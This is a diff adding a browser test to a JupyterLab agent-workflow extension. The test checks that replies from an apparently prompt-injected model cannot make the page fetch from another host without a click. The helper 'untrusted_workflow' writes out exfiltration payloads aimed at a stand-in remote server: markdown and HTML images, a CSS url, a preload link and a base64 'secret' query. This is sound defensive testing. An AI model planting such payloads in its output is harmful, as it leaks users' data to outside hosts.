@@ -13,6 +13,7 @@ instead, so an ordinary test run never changes a tracked file.
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import textwrap
@@ -21,8 +22,10 @@ from typing import Any
 
 import pytest
 
+from tests.support.http_server import FakeHttpServer
 from tests.support.jupyterlab import JupyterLabServer, write_notebook
 from tests.support.kernels import REPO_ROOT
+from tests.support.waiting import wait_until
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -343,3 +346,91 @@ def test_tool_calls_are_blocks_with_allow_and_deny(page: Any, lab: JupyterLabSer
         " : item.classList.contains('awf-user') ? 'user' : 'reply')"
     )
     assert kinds == ["user", "reply", "tool", "reply", "user", "reply", "tool", "reply"], kinds
+
+
+def untrusted_workflow(remote: str) -> str:
+    """A run whose reply (and command output) try every way to make the browser fetch from
+    `remote` by itself, as a prompt-injected model that read a file would."""
+    reply = (
+        f"Summary ready. ![chart]({remote}/markdown-image?d=c2VjcmV0) "
+        f"<img src='{remote}/raw-img'> <link rel=preload as=image href='{remote}/preload'> "
+        f"<div style='background:url({remote}/css-url)'>bg</div> ![ref][r] END-OF-REPLY"
+        f"\\n\\n[r]: {remote}/reference-image"
+    )
+    return f"""
+name: untrusted
+states:
+  initial: build
+  build:
+    type: step
+    command: printf '<img src="{remote}/command-output">'
+    on_success: answer
+  answer:
+    type: agent
+    provider: scripted
+    prompt: "Summarise the notes."
+    options:
+      replies: ["{reply}"]
+    on_success: done
+  done: {{type: terminal}}
+"""
+
+
+def remote_requests_after_a_control(page: Any, remote: Any, control: str) -> list[str]:
+    """The paths `remote` was asked for, once a request the test makes itself (`control`,
+    an image added to the page now, named `control-…`) has arrived: the page's own elements
+    were put in before it, so their requests, if any, were sent before it."""
+    page.evaluate(
+        "url => { const img = document.createElement('img'); img.src = url;"
+        " document.body.appendChild(img); }",
+        f"{remote.url}/{control}",
+    )
+    wait_until(lambda: any(seen.path == f"/{control}" for seen in remote.requests), control)
+    return [seen.path for seen in remote.requests if not seen.path.startswith("/control-")]
+
+
+def test_nothing_in_a_reply_loads_from_another_host_without_a_click(
+    page: Any, lab: JupyterLabServer, chromium: Any
+) -> None:
+    """The live panel and the saved notebook's HTML: the "remote" host (a server on another
+    port of 127.0.0.1) is never asked for anything until the person clicks."""
+    with FakeHttpServer() as remote:
+        notebook = NotebookPage(
+            page,
+            lab,
+            "untrusted.ipynb",
+            ["%load_ext awf_nb", awf_cell(untrusted_workflow(remote.url), flags="")],
+        )
+        notebook.run_all_cells()
+        notebook.wait_for_reply("END-OF-REPLY")
+        notebook.wait_for_status("completed")
+        notebook.wait_for_kernel_idle()
+
+        assert remote_requests_after_a_control(page, remote, "control-live") == []
+        link = notebook.panel.locator("a.awf-remote-image").first
+        assert link.get_attribute("href") == f"{remote.url}/markdown-image?d=c2VjcmV0"
+        assert notebook.panel.locator("img").count() == 0
+
+        # The notebook as saved: the panel's static HTML, shown without a kernel.
+        page.keyboard.press("Control+s")
+        saved_path = lab.root / "untrusted.ipynb"
+        wait_until(lambda: "awf-remote-image" in saved_path.read_text(), "the saved notebook")
+        saved = json.loads(saved_path.read_text())
+        (html,) = [
+            "".join(output["data"]["text/html"])
+            for output in saved["cells"][1]["outputs"]
+            if "text/html" in output.get("data", {})
+        ]
+        reader = chromium.new_page()
+        try:
+            reader.set_content(f"<html><body>{html}</body></html>")
+            reader.locator("a.awf-remote-image").first.wait_for(timeout=STEP_MS)
+            assert remote_requests_after_a_control(reader, remote, "control-saved") == []
+        finally:
+            reader.close()
+
+        # A click is the person's choice: then, and only then, the address is opened.
+        with page.context.expect_page() as opened:
+            link.click()
+        opened.value.wait_for_load_state()
+        assert "/markdown-image?d=c2VjcmV0" in [seen.path for seen in remote.requests]
